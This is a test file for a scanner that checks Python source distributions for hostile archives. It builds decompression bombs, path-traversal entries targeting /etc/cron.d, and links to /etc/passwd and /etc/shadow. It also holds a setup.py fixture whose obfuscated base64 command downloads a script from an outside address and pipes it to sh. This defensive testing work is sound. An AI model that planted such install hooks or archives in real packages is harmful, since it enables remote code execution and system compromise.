// Hostile sdists end to end, through the CLI and the action: bombs, traversal, links, devices,
// broken and mislabelled archives, duplicate and huge build scripts, and every way to encode a
// source file. Each is built here and served by a real index on 127.0.0.1. Whatever the archive
// does, the dependency is never `sdist` (checked and clean) unless it was read whole, and the rest
// of the scan is decided.

import { randomBytes } from 'node:crypto';

import { concat, gzip, makeRawZip, makeSdist, makeTar, makeWheel, makeZip, type TarEntry } from './helpers/archives.js';
import { startIndexServer, type IndexServer, type IndexServerFile } from './helpers/index-server.js';
import { dep, expectUnresolved, Sandbox, type HostileRun, type RunSettings } from './helpers/hostile.js';

const sandbox = new Sandbox();
let server: IndexServer;

const BASE = { good: [makeWheel('good', '1.0')], clean: [makeSdist('clean', '1.0')] };
const OTHERS = { good: 'wheel', clean: 'sdist' };
const REQUIREMENTS = { 'requirements.txt': 'good==1.0\nclean\nvictim\n' };

const EVIL = [
  'import os, subprocess, base64',
  'from setuptools import setup',
  'cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo").decode()',
  'subprocess.Popen(cmd, shell=True)',
  'setup(name="victim", version="2.0")',
  '',
].join('\n');
const BENIGN = 'from setuptools import setup\nsetup(name="victim", version="2.0")\n';
const PKG_INFO = 'Metadata-Version: 2.1\nName: victim\nVersion: 2.0\n';

beforeAll(async () => {
  server = await startIndexServer({ projects: BASE });
});
afterAll(async () => {
  await server.close();
  sandbox.cleanup();
});

function settings(limits = ''): RunSettings {
  return { indexUrl: server.indexUrl, args: ['--timeout', '5'], inputs: { timeout: '5' }, env: { SDIST_GUARD_LIMITS: `retries=0 ${limits}` } };
}

/** A tar whose entries sit under `victim-2.0/`, with a directory entry and PKG-INFO first. */
function victimTar(entries: TarEntry[], withInfo = true): Uint8Array {
  const head: TarEntry[] = [{ name: 'victim-2.0/', type: '5' }];
  if (withInfo) head.push({ name: 'victim-2.0/PKG-INFO', content: PKG_INFO });
  return makeTar([...head, ...entries.map((e) => ({ ...e, name: e.name.startsWith('/') || e.name.startsWith('..') ? e.name : `victim-2.0/${e.name}` }))]);
}

/** Serves `data` as the victim's only file and scans through both entries. */
async function scanVictim(filename: string, data: Uint8Array, limits = ''): Promise<HostileRun> {
  const victim: IndexServerFile[] = [{ filename, data }];
  server.update({ projects: { ...BASE, victim } });
  return sandbox.both(REQUIREMENTS, settings(limits));
}

function expectSuspicious(r: HostileRun, why?: RegExp): void {
  for (const report of [r.cli.report, r.action.report]) {
    const v = dep(report, 'victim');
    expect(v.status).toBe('suspicious');
    expect(v.findings.length).toBeGreaterThan(0);
    if (why) expect(JSON.stringify(v)).toMatch(why);
    expect(dep(report, 'good').status).toBe('wheel');
    expect(dep(report, 'clean').status).toBe('sdist');
  }
  expect(r.cli.code).toBe(1);
  expect(r.action.exitCode).toBe(1);
}

describe('decompression bombs', () => {
  it('a gzip bomb by ratio: a few KB that inflate to 64 MiB stop at the ratio limit', async () => {
    const data = gzip(victimTar([{ name: 'setup.py', content: BENIGN }, { name: 'data/zeros.bin', content: new Uint8Array(64 * 1024 * 1024) }]));
    expect(data.length).toBeLessThan(200 * 1024);
    const r = await scanVictim('victim-2.0.tar.gz', data);
    expectUnresolved(r, 'victim', /entry victim-2\.0\/data\/zeros\.bin: archive inflates to more than 200 times its compressed size \(\d+ bytes from \d+; maxRatio\), reading stopped/, OTHERS);
  });

  it('a gzip bomb by size: incompressible bytes stop at the inflated-size limit', async () => {
    const data = gzip(victimTar([{ name: 'setup.py', content: BENIGN }, { name: 'blob.bin', content: randomBytes(6 * 1024 * 1024) }]));
    const r = await scanVictim('victim-2.0.tar.gz', data, 'max-inflated-bytes=4MiB');
    expectUnresolved(r, 'victim', /entry victim-2\.0\/blob\.bin: archive inflates past 4 MiB \(maxInflatedBytes\), reading stopped/, OTHERS);
  });

  it('a zip bomb: a build script that inflates past the one-file limit is not kept, and says so', async () => {
    const data = makeZip({ 'victim-2.0/PKG-INFO': PKG_INFO, 'victim-2.0/setup.py': EVIL + '#'.repeat(64 * 1024 * 1024) });
    expect(data.length).toBeLessThan(1024 * 1024);
    const r = await scanVictim('victim-2.0.zip', data);
    expectUnresolved(r, 'victim', /entry victim-2\.0\/setup\.py: \d+ bytes is over the 8 MiB limit for one file \(maxFileBytes\), not kept/, OTHERS);
  });

  it('a zip entry that lies about its size inflates no further than it declares', async () => {
    const huge = Buffer.alloc(50 * 1024 * 1024, 0x23);
    const data = makeRawZip([
      { name: 'victim-2.0/PKG-INFO', content: PKG_INFO },
      { name: 'victim-2.0/setup.py', content: Buffer.concat([Buffer.from(BENIGN), huge]), declaredSize: BENIGN.length },
    ]);
    const r = await scanVictim('victim-2.0.zip', data);
    expectUnresolved(r, 'victim', /entry victim-2\.0\/setup\.py: inflates to more than the \d+ bytes it declares/, OTHERS);
  });

  it('zip entries that together inflate past the total limit stop the read', async () => {
    const files: Record<string, Uint8Array | string> = { 'victim-2.0/PKG-INFO': PKG_INFO, 'victim-2.0/setup.py': BENIGN };
    for (let i = 0; i < 8; i++) files[`victim-2.0/pkg/m${i}.py`] = randomBytes(512 * 1024).toString('base64');
    const r = await scanVictim('victim-2.0.zip', makeZip(files), 'max-inflated-bytes=2MiB');
    expectUnresolved(r, 'victim', /archive inflates past 2 MiB \(maxInflatedBytes\), reading stopped/, OTHERS);
  });
});

describe('archive structure', () => {
  it('a tar with 100,000 entries stops at the entry limit', async () => {
    const entries: TarEntry[] = [{ name: 'setup.py', content: BENIGN }];
    for (let i = 0; i < 100_000; i++) entries.push({ name: `f/${i}` });
    const r = await scanVictim('victim-2.0.tar.gz', gzip(victimTar(entries)));
    expectUnresolved(r, 'victim', /more than 50000 entries \(maxEntries\), reading stopped/, OTHERS);
  });

  it('entries named with ../ or an absolute path are refused, never placed', async () => {
    const r = await scanVictim(
      'victim-2.0.tar.gz',
      gzip(victimTar([{ name: 'setup.py', content: BENIGN }, { name: '../../../../tmp/evil.py', content: EVIL }, { name: '/etc/cron.d/evil.py', content: EVIL }])),
    );
    expectUnresolved(r, 'victim', /entry \.\.\/\.\.\/\.\.\/\.\.\/tmp\/evil\.py: .*skipped/, OTHERS);
    expect(dep(r.cli.report, 'victim').limits.join('\n')).toMatch(/entry \/etc\/cron\.d\/evil\.py: .*skipped/);
  });

  it('symbolic and hard links pointing out of the archive are never followed', async () => {
    const r = await scanVictim(
      'victim-2.0.tar.gz',
      gzip(
        victimTar([
          { name: 'setup.py', content: BENIGN },
          { name: 'setup.cfg', type: '2', linkname: '/etc/passwd' },
          { name: 'pkg/__init__.py', type: '1', linkname: '../../../../etc/shadow' },
        ]),
      ),
    );
    expectUnresolved(r, 'victim', /entry victim-2\.0\/setup\.cfg: symbolic link to \/etc\/passwd, skipped/, OTHERS);
    expect(dep(r.cli.report, 'victim').limits.join('\n')).toMatch(/hard link to \.\.\/\.\.\/\.\.\/\.\.\/etc\/shadow, skipped/);
  });

  it('a symbolic link in a zip is never followed: pip writes it as a file holding its target, and that is what is read', async () => {
    const data = makeRawZip([
      { name: 'victim-2.0/PKG-INFO', content: PKG_INFO },
      { name: 'victim-2.0/setup.py', content: BENIGN },
      { name: 'victim-2.0/build.py', content: '/etc/passwd', mode: 0o120777, method: 0 },
    ]);
    const r = await scanVictim('victim-2.0.zip', data);
    for (const report of [r.cli.report, r.action.report]) {
      expect(dep(report, 'victim').status).toBe('sdist');
      expect(JSON.stringify(dep(report, 'victim'))).not.toMatch(/root:/);
    }
  });

  it('device files and fifos are skipped, and that is reported', async () => {
    const r = await scanVictim(
      'victim-2.0.tar.gz',
      gzip(victimTar([{ name: 'setup.py', content: BENIGN }, { name: 'dev/zero.py', type: '3' }, { name: 'dev/sda.py', type: '4' }, { name: 'dev/pipe.py', type: '6' }])),
    );
    expectUnresolved(r, 'victim', /entry victim-2\.0\/dev\/zero\.py: character device, skipped/, OTHERS);
    const limits = dep(r.cli.report, 'victim').limits.join('\n');
    expect(limits).toMatch(/dev\/sda\.py: block device, skipped/);
    expect(limits).toMatch(/dev\/pipe\.py: fifo, skipped/);
  });

  it('a truncated archive is an error naming the file and where it ends', async () => {
    const whole = gzip(victimTar([{ name: 'setup.py', content: EVIL }, { name: 'pad.bin', content: randomBytes(64 * 1024) }]));
    const r = await scanVictim('victim-2.0.tar.gz', whole.subarray(0, Math.floor(whole.length / 2)));
    expectUnresolved(r, 'victim', /could not be checked: victim-2\.0\.tar\.gz: archive is truncated at byte \d+ \(the gzip data ends early\)/, OTHERS);
  });

  it('a .tar.gz that is not gzip is refused, saying what it is', async () => {
    const r = await scanVictim('victim-2.0.tar.gz', victimTar([{ name: 'setup.py', content: EVIL }]));
    expectUnresolved(r, 'victim', /could not be checked: victim-2\.0\.tar\.gz: not gzip data \(it is an uncompressed tar archive\)/, OTHERS);
  });

  it('a .zip that is a tar is refused, saying what it is', async () => {
    const r = await scanVictim('victim-2.0.zip', gzip(victimTar([{ name: 'setup.py', content: EVIL }])));
    expectUnresolved(r, 'victim', /could not be checked: victim-2\.0\.zip: not a zip archive \(it is gzip data\)/, OTHERS);
  });

  it('random bytes named .tar.gz are refused, showing the first bytes', async () => {
    const junk = randomBytes(4096);
    junk[0] = 0x00;
    const r = await scanVictim('victim-2.0.tar.gz', junk);
    expectUnresolved(r, 'victim', /victim-2\.0\.tar\.gz: not gzip data \(its first bytes are 00 /, OTHERS);
  });
});

describe('the build script pip would run', () => {
  it('duplicate setup.py entries: the last one is what extraction leaves, and it is analyzed', async () => {
    const r = await scanVictim('victim-2.0.tar.gz', gzip(victimTar([{ name: 'setup.py', content: BENIGN }, { name: 'setup.py', content: EVIL }])));
    expectSuspicious(r, /setup\.py appears twice with different content: pip unpacks the last copy/);
  });

  it('duplicate setup.py entries with the malicious one first: the disagreement is itself the finding', async () => {
    const r = await scanVictim('victim-2.0.tar.gz', gzip(victimTar([{ name: 'setup.py', content: EVIL }, { name: 'setup.py', content: BENIGN }])));
    expectSuspicious(r, /archive-ambiguity.*setup\.py appears twice with different content/);
  });

  it('identical duplicate setup.py entries are harmless: neither a finding nor a limit', async () => {
    const r = await scanVictim('victim-2.0.tar.gz', gzip(victimTar([{ name: 'setup.py', content: BENIGN }, { name: 'setup.py', content: BENIGN }])));
    for (const report of [r.cli.report, r.action.report]) {
      const v = dep(report, 'victim');
      expect(v.status).toBe('sdist');
      expect(v.limits).toEqual([]);
    }
  });

  it('duplicate setup.py entries in a zip: the same rule', async () => {
    const data = makeRawZip([
      { name: 'victim-2.0/PKG-INFO', content: PKG_INFO },
      { name: 'victim-2.0/setup.py', content: BENIGN },
      { name: 'victim-2.0/setup.py', content: EVIL },
    ]);
    const r = await scanVictim('victim-2.0.zip', data);
    expectSuspicious(r, /setup\.py/);
  });

  it('a 100 MB setup.py is not kept, and that is the reason given', async () => {
    const big = concat([new TextEncoder().encode(EVIL), new Uint8Array(100 * 1024 * 1024).fill(0x23)]);
    const r = await scanVictim('victim-2.0.tar.gz', gzip(victimTar([{ name: 'setup.py', content: big }])));
    expectUnresolved(r, 'victim', /entry victim-2\.0\/setup\.py: 104857\d+ bytes is over the 8 MiB limit for one file \(maxFileBytes\), not kept/, OTHERS);
  });

  const encodings: Array<[string, Uint8Array]> = [
    ['a UTF-8 byte order mark', concat([new Uint8Array([0xef, 0xbb, 0xbf]), new TextEncoder().encode(EVIL)])],
    ['Windows line endings', new TextEncoder().encode(EVIL.replace(/\n/g, '\r\n'))],
    ['old Mac line endings', new TextEncoder().encode(EVIL.replace(/\n/g, '\r'))],
    ['a latin-1 coding cookie and latin-1 bytes', Buffer.from(`# -*- coding: latin-1 -*-\n# Auteur: Ren\xe9\n${EVIL}`, 'latin1')],
  ];
  for (const [what, bytes] of encodings) {
    it(`a malicious setup.py with ${what} is still read as Python reads it, and flagged`, async () => {
      const r = await scanVictim('victim-2.0.tar.gz', gzip(victimTar([{ name: 'setup.py', content: bytes }])));
      expectSuspicious(r);
    });
  }

  // Python would not run these as they are; what sdist-guard read is said, and a file whose text is
  // in doubt is never passed as clean.
  const doubtful: Array<[string, (source: string) => Uint8Array, RegExp]> = [
    ['UTF-16 (with its byte order mark)', (src) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(src, 'utf16le')]), /entry setup\.py: UTF-16 LE text \(byte-order mark\); Python does not run UTF-16 source/],
    ['bytes that are not UTF-8, without a coding cookie', (src) => Buffer.from(`# Auteur: Ren\xe9\n${src}`, 'latin1'), /entry setup\.py: not valid UTF-8 \(line 1\); decoded with replacement characters/],
    ['NUL bytes', (src) => Buffer.from(`${src}\0\0\0import os\n`), /entry setup\.py: contains NUL bytes \(first on line \d+\)/],
  ];
  for (const [what, encode, note] of doubtful) {
    it(`a malicious setup.py in ${what} is flagged, and the doubt is noted`, async () => {
      const r = await scanVictim('victim-2.0.tar.gz', gzip(victimTar([{ name: 'setup.py', content: encode(EVIL) }], false)));
      expectSuspicious(r);
      expect(dep(r.action.report, 'victim').limits.join('\n')).toMatch(note);
    });

    it(`a harmless setup.py in ${what} is unresolved, not clean`, async () => {
      const r = await scanVictim('victim-2.0.tar.gz', gzip(victimTar([{ name: 'setup.py', content: encode(BENIGN) }], false)));
      expectUnresolved(r, 'victim', new RegExp(`could not be fully checked: ${note.source}`), OTHERS);
    });
  }
});
